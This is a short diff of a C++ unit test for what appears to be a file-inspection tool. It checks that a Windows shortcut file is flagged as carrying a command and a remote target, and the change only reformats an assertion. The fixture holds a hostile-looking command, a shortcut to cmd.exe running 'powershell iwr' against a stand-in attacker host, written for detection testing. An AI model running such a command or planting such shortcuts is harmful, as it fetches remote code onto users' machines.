@@ -297,8 +297,7 @@ TEST(Files, RichText) {
 TEST(Files, Shortcuts) {
   const auto facts = look(
       "a.lnk", made::lnk("..\\..\\Windows\\System32\\cmd.exe", "/c powershell iwr https://evil.example/a"));
-  EXPECT_THAT(facts_of(facts),
-              ElementsAre("shortcut", "shortcut-command", "remote-shortcut"));
+  EXPECT_THAT(facts_of(facts), ElementsAre("shortcut", "shortcut-command", "remote-shortcut"));
   EXPECT_EQ(evidence(facts, FileFact::shortcut_command),
             "a.lnk: ..\\..\\Windows\\System32\\cmd.exe /c powershell iwr https://evil.example/a");
   const auto url =
